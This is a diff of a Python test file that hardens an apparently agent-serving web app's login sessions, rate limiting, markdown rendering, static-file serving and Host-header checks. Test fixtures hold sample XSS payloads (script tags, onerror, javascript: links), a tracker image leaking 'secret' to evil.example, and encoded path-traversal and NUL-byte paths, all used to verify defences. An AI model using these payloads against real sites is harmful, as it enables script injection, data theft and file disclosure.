@@ -21,7 +21,7 @@ from colony.llm.messages import AssistantMessage, ToolCall, ToolResultMessage, U
 from colony.memory import MemoryIn
 from colony.node import Node
 from colony.server import create_app
-from colony.server.auth import COOKIE_NAME, login_cookie_value
+from colony.server.auth import COOKIE_NAME
 from colony.server.turns import ApprovalBroker
 from colony.server.web._views import build_transcript
 from colony.store import sessions as st
@@ -98,17 +98,24 @@ def test_a_partial_request_without_the_cookie_asks_htmx_to_navigate_to_login(web
     assert r.headers["hx-redirect"] == "/login?next=%2Faudit%3Fbefore_id%3D5"
 
 
-def test_login_sets_an_httponly_strict_cookie_holding_an_hmac_not_the_token(web: Web) -> None:
+def test_login_sets_an_httponly_strict_cookie_holding_a_random_session_id(web: Web) -> None:
     r = web.client.post("/login", data={"token": f"  {TOKEN}\n", "next": "/audit"}, follow_redirects=False)
     assert r.status_code == 303 and r.headers["location"] == "/audit"
     cookie = r.headers["set-cookie"]
-    assert cookie.startswith(f"{COOKIE_NAME}={login_cookie_value(TOKEN)};")
-    assert TOKEN not in cookie
+    value = cookie.split(";")[0].removeprefix(f"{COOKIE_NAME}=")
+    assert len(value) >= 40 and TOKEN not in cookie
     attributes = {part.strip().lower() for part in cookie.split(";")}
     assert "httponly" in attributes and "samesite=strict" in attributes and "path=/" in attributes
     assert web.client.get("/audit", follow_redirects=False).status_code == 200
+    # The database holds a keyed hash of the id, never the cookie itself.
+    stored = [row["id_hash"] for row in web.node.db.query("SELECT id_hash FROM web_sessions")]
+    assert len(stored) == 1 and value not in stored[0]
     # Already logged in: the form sends you on.
     assert web.client.get("/login?next=/health", follow_redirects=False).headers["location"] == "/health"
+    # A second login is a new random id, not the same value again (it used to be HMAC(token)).
+    again = web.client.post("/login", data={"token": TOKEN}, follow_redirects=False)
+    assert again.headers["set-cookie"].split(";")[0] != cookie.split(";")[0]
+    assert web.node.db.scalar("SELECT COUNT(*) FROM web_sessions") == 1  # it replaced the first
 
 
 @pytest.mark.parametrize("token", ["wrong", "", TOKEN[:-1], TOKEN + "x"])
@@ -144,6 +151,55 @@ def test_logout_clears_the_cookie(web: Web) -> None:
     cookie = r.headers["set-cookie"].lower()
     assert cookie.startswith(f"{COOKIE_NAME}=") and "max-age=0" in cookie
     assert web.client.get("/", follow_redirects=False).status_code == 303
+
+
+def test_logout_revokes_the_session_on_the_server(web: Web) -> None:
+    # Regression: the cookie was HMAC(token), the same on every login, and a copy of it kept
+    # working after logout. Now logout deletes the session; a replayed cookie is worth nothing.
+    web.login()
+    stolen = web.client.cookies.get(COOKIE_NAME)
+    assert stolen
+    csrf = web.csrf()
+    assert web.client.get("/api/v1/sessions").status_code == 200
+    assert web.client.post("/logout", data={"csrf": csrf}, follow_redirects=False).status_code == 303
+    web.client.cookies.set(COOKIE_NAME, stolen)  # the copy an attacker kept
+    assert web.client.get("/", follow_redirects=False).status_code == 303
+    assert web.client.get("/api/v1/sessions").status_code == 401
+    r = web.client.post("/api/v1/memory", json={"content": "planted"}, headers={"X-CSRF-Token": csrf})
+    assert r.status_code == 401
+    assert web.node.db.scalar("SELECT COUNT(*) FROM web_sessions") == 0
+
+
+def test_an_expired_session_is_not_a_login(web: Web) -> None:
+    web.login()
+    web.node.db.execute("UPDATE web_sessions SET expires_at = 1")
+    assert web.client.get("/", follow_redirects=False).status_code == 303
+    assert web.client.get("/api/v1/sessions").status_code == 401
+
+
+def test_a_new_node_token_ends_every_login(settings: Settings) -> None:
+    broker = ApprovalBroker()
+    node = Node(settings, approver=broker)
+    with TestClient(create_app(node, broker, token=TOKEN, connect_model=False), base_url=BASE) as client:
+        assert client.post("/login", data={"token": TOKEN}, follow_redirects=False).status_code == 303
+        cookie = client.cookies.get(COOKIE_NAME)
+    broker = ApprovalBroker()
+    node = Node(settings, approver=broker)
+    with TestClient(create_app(node, broker, token="a-rotated-token", connect_model=False), base_url=BASE) as client:
+        client.cookies.set(COOKIE_NAME, cookie or "")
+        assert client.get("/", follow_redirects=False).status_code == 303
+
+
+def test_wrong_tokens_are_limited_per_address_with_retry_after(web: Web) -> None:
+    # Regression: 500 wrong tokens in 0.4 s were all answered 401; now the tenth failure within a
+    # minute locks the address out (the right token too, so a lockout says nothing about a guess).
+    for _ in range(10):
+        assert web.client.post("/login", data={"token": "guess"}, follow_redirects=False).status_code == 401
+    r = web.client.post("/login", data={"token": "guess"}, follow_redirects=False)
+    assert r.status_code == 429 and 0 < int(r.headers["retry-after"]) <= 60
+    assert "Too many wrong tokens" in r.text and "set-cookie" not in r.headers
+    right = web.client.post("/login", data={"token": TOKEN}, follow_redirects=False)
+    assert right.status_code == 429 and "set-cookie" not in right.headers
 
 
 # -- pages ---------------------------------------------------------------------------------------------
@@ -187,12 +243,42 @@ def test_chat_page_renders_a_session_transcript(web: Web) -> None:
     page = web.client.get(f"/?session={sid}").text
     assert f'data-session-id="{sid}"' in page
     assert '<li class="msg user">Copy the notes</li>' in page
-    assert '<li class="msg assistant">Done: out.txt</li>' in page
+    assert '<li class="msg assistant md"><p>Done: out.txt</p>\n</li>' in page  # rendered markdown
     assert 'data-call-id="call_1"' in page and '<span class="tool-name">write_file</span>' in page
     assert '<span class="badge ok">ok</span>' in page and "approved" in page
     assert "wrote out.txt" in page
     assert "sk-secret" not in page and "[REDACTED]" in page  # arguments come from the redacted audit row
     assert "completed · 1 tool call" in page and "42 tokens" in page
+
+
+HOSTILE_ANSWER = (
+    "Here is **bold**, `code` and a [docs link](https://example.com/docs).\n\n"
+    "```python\nprint('<b>hi</b>')\n```\n\n"
+    "<script>window.__pwned = 1</script><img src=x onerror=\"window.__pwned = 2\">\n\n"
+    "[click me](javascript:window.__pwned=3) ![tracker](https://evil.example/p.png?d=secret)\n"
+)
+
+
+def test_answers_render_as_sanitised_markdown(web: Web) -> None:
+    sid = st.create_session(web.node.db, title="md", surface="web")
+    tid = st.start_turn(web.node.db, sid, "md", None)
+    st.add_message(web.node.db, sid, tid, UserMessage(content="show me markdown"))
+    st.add_message(web.node.db, sid, tid, AssistantMessage(content=HOSTILE_ANSWER))
+    st.finish_turn(web.node.db, tid, status="completed", final_text=HOSTILE_ANSWER, error=None, tool_calls=0,
+                   model_requests=1, prompt_tokens=1, completion_tokens=1)
+    web.login()
+    for page in (web.client.get(f"/?session={sid}").text, web.client.get(f"/sessions/{sid}").text):
+        answer = page[page.index('<li class="msg assistant md">'):]
+        answer = answer[:answer.index("</li>")]
+        assert "<strong>bold</strong>" in answer and "<code>code</code>" in answer
+        assert '<a href="https://example.com/docs" rel="noopener noreferrer nofollow">docs link</a>' in answer
+        assert "<pre><code>print(&#39;&lt;b&gt;hi&lt;/b&gt;&#39;)" in answer or "<pre><code>print('&lt;b&gt;hi&lt;/b&gt;')" in answer
+        # The model's HTML is text, its javascript: link is not a link, and no image is loaded.
+        assert "&lt;script&gt;window.__pwned = 1&lt;/script&gt;" in answer
+        assert "&lt;img src=x onerror=" in answer
+        for forbidden in ("<script", "<img", 'href="javascript'):
+            assert forbidden not in answer, forbidden
+        assert 'src="https://evil.example' not in answer
 
 
 def test_unknown_session_is_a_404_page(web: Web) -> None:
@@ -287,9 +373,13 @@ def test_static_files_are_served_and_vendored_htmx_matches_its_checksum(web: Web
     assert web.client.get("/static/chat.js").status_code == 200
 
 
-@pytest.mark.parametrize("path", ["/static/..%2fpages.py", "/static/%2e%2e/%2e%2e/auth.py", "/static/nope.css", "/static/vendor"])
+@pytest.mark.parametrize("path", ["/static/..%2fpages.py", "/static/%2e%2e/%2e%2e/auth.py", "/static/nope.css", "/static/vendor",
+                                  "/static/x%00", "/static/colony.css%00.map", "/static/%0a"])
 def test_static_refuses_traversal_and_missing_files(web: Web, path: str) -> None:
-    assert web.client.get(path).status_code == 404
+    # A NUL used to reach Path.resolve and answer 500 with a traceback.
+    r = web.client.get(path)
+    assert r.status_code == 404 and r.json()["code"] == "not_found"
+    assert r.headers["x-content-type-options"] == "nosniff"
 
 
 # -- transcript shaping ------------------------------------------------------------------------------------------
@@ -448,3 +538,32 @@ def test_health_page_lists_the_memory_check(web: Web) -> None:
     web.login()
     page = web.client.get("/health").text
     assert "<code>memory</code>" in page and "minilm-static-v1 · 1 active · 0 without a vector" in page
+
+
+# -- the Host check ------------------------------------------------------------------------------------------
+
+
+def test_the_host_check_holds_for_test_clients_too(settings: Settings) -> None:
+    from colony.server.hosts import HostCheck, allowed_hosts
+
+    broker = ApprovalBroker()
+    node = Node(settings, approver=broker)
+    app = create_app(node, broker, token=TOKEN, connect_model=False)  # default: the loopback names, any port
+    with TestClient(app) as client:  # TestClient's own Host is "testserver": not one of the node's names
+        r = client.get("/api/v1/health")
+        assert r.status_code == 421 and r.json()["code"] == "unknown_host"
+        assert client.get("/login").status_code == 421
+    for base in ("http://localhost:1234", "http://[::1]:8420", "http://127.0.0.1"):
+        with TestClient(app, base_url=base) as client:
+            assert client.get("/api/v1/health").status_code == 200, base
+
+    assert allowed_hosts("127.0.0.1", 8420) == ["127.0.0.1:8420", "localhost:8420", "[::1]:8420"]
+    assert allowed_hosts("::1", 80) == ["127.0.0.1:80", "127.0.0.1", "localhost:80", "localhost", "[::1]:80", "[::1]"]
+    remote = allowed_hosts("0.0.0.0", 9000, ["Colony.LAN", "box:9999", "fe80::1"])
+    assert remote == ["127.0.0.1:9000", "localhost:9000", "[::1]:9000", "colony.lan:9000", "box:9999", "[fe80::1]:9000"]
+    check = HostCheck(app, remote)
+    for good in ("colony.lan:9000", "COLONY.lan.:9000", "box:9999", "[fe80::1]:9000", "localhost:9000"):
+        assert check.allows(good), good
+    for bad in ("colony.lan", "colony.lan:9001", "box:9000", "evil.example:9000", "a b:9000",
+                "user@localhost:9000", "[::1:9000", "localhost:0", "localhost:99999", "localhost:9000:1", ""):
+        assert not check.allows(bad), bad
